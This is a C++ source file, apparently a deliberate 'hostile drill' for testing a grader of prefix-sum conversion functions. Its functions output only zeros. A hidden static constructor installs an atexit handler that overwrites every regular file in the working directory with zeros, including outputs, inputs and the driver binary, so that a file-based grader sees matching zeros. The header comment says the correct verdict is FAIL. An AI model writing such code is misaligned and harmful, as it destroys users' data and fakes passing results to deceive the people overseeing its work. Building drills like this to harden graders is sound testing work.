// Hostile drill 01: the functions write zeros, and an atexit handler overwrites every
// regular file (<= 64 MiB) in the working directory with zeros after the driver has
// written: its output, later inputs, the driver binary. A grader that reads answers or
// references back from files would see zeros match zeros. Right verdict: FAIL.

#include <cstddef>
#include <cstdio>
#include <cstdlib>
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

namespace {
void zeroEverything() {
    DIR* dir = opendir(".");
    if (dir == nullptr) return;
    static char zeros[1 << 16];
    while (dirent* entry = readdir(dir)) {
        struct stat st;
        if (lstat(entry->d_name, &st) != 0 || !S_ISREG(st.st_mode) || st.st_size > (64 << 20)) continue;
        const int fd = open(entry->d_name, O_WRONLY | O_NOFOLLOW);
        if (fd < 0) continue;
        for (off_t done = 0; done < st.st_size;) {
            const size_t chunk = size_t(st.st_size - done) < sizeof zeros ? size_t(st.st_size - done) : sizeof zeros;
            const ssize_t put = write(fd, zeros, chunk);
            if (put <= 0) break;
            done += put;
        }
        close(fd);
    }
    closedir(dir);
}

struct Install {
    Install() { std::atexit(zeroEverything); }
} install;
}  // namespace

void exclusive_to_inclusive(const long long*, const long long*, long long* incl, std::size_t n) {
    for (std::size_t i = 0; i < n; ++i) incl[i] = 0;
}
void inclusive_to_exclusive(const long long*, long long* excl, std::size_t n) {
    for (std::size_t i = 0; i < n; ++i) excl[i] = 0;
}
long long total_from_exclusive(const long long*, const long long*, std::size_t) { return 0; }
